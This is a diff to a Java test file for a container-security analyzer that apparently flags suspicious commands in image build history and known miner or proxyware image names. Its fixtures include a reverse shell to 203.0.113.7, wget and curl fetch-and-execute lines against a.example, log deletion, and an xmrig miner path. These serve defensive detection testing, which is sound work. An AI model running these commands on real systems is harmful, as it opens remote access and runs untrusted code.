@@ -12,6 +12,7 @@ import java.time.Instant;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Optional;
+import java.util.stream.Stream;
 import org.ephemera.analyze.model.ControlCall;
 import org.ephemera.analyze.model.Execution;
 import org.ephemera.analyze.model.Finding;
@@ -49,7 +50,7 @@ class CommandRulesTest {
     void tellsWhoGaveACommand() {
         Text layer = new Text(
                 "shop/app:7",
-                "image history",
+                "history",
                 "RUN wget -qO- a.example | sh",
                 at("image.json", "/history/3"),
                 Origin.IMAGE,
@@ -58,8 +59,8 @@ class CommandRulesTest {
                         Places.running(command(true, "/tmp/.x/xmrig")), List.of(), List.of(layer))
                 .findings();
         assertThat(findings).extracting(f -> f.rule().id()).containsExactly("CMD-004", "CMD-009", "CMD-001");
-        assertThat(findings.get(0).because()).contains("hands-on-keyboard or stolen API credential");
-        assertThat(findings.get(2).because()).contains("born-malicious");
+        assertThat(findings.get(0).because()).contains("hands-on-keyboard or a stolen API credential");
+        assertThat(findings.get(2).because()).contains("born-malicious if whoever built it");
         assertThat(findings.get(2).subject()).isEqualTo("shop/app:7");
     }
 
@@ -67,7 +68,7 @@ class CommandRulesTest {
     void saysNothingOfIntentWhereAnImageInstallsPackages() {
         Text layer = new Text(
                 "shop/app:7",
-                "image history",
+                "history",
                 "RUN apt-get update && apt-get install -y curl",
                 at("image.json", "/history/1"),
                 Origin.IMAGE,
@@ -76,6 +77,35 @@ class CommandRulesTest {
         assertThat(CommandRules.findings(List.of(), List.of(), List.of(layer)).findings())
                 .singleElement()
                 .satisfies(finding -> assertThat(finding.because()).doesNotContain("born-malicious"));
+    }
+
+    /** What a layer did when it was made ran in no container; a shell that calls home is as bad there. */
+    @Test
+    void takesWhatImagesDoWhileTheyAreBuiltForLess() {
+        List<Text> layers = Stream.of(
+                        "RUN wget -qO- a.example | sh",
+                        "RUN apt-get clean && rm -rf /tmp/x /var/log/*",
+                        "RUN curl -o /opt/t http://a.example/t && chmod +x /opt/t",
+                        "RUN bash -i >& /dev/tcp/203.0.113.7/443 0>&1")
+                .map(run -> new Text("app:7", "history", run, at("image.json", "/h"), Origin.IMAGE, Optional.empty()))
+                .toList();
+
+        assertThat(CommandRules.findings(List.of(), List.of(), layers).findings())
+                .extracting(f -> f.rule().id() + " " + f.severity().word())
+                .containsExactlyInAnyOrder("CMD-001 medium", "CMD-008 low", "CMD-009 low", "CMD-003 critical");
+    }
+
+    @Test
+    void knowsAMinerByTheNameOfItsImage() {
+        assertThat(of(Places.of("docker.io/miningcontainers/xmrig:6.22")).findings())
+                .singleElement()
+                .satisfies(f -> {
+                    assertThat(f.rule().id()).isEqualTo("CMD-004");
+                    assertThat(f.because()).isEqualTo("image: docker.io/miningcontainers/xmrig:6.22");
+                });
+        assertThat(ids(of(Places.of("traffmonetizer/cli_v2")))).containsExactly("CMD-012");
+        assertThat(ids(of(Places.of("sourcepole/t-rex")))).isEmpty();
+        assertThat(ids(of(Places.of("registry.example/shop/checkout:7")))).isEmpty();
     }
 
     @Test
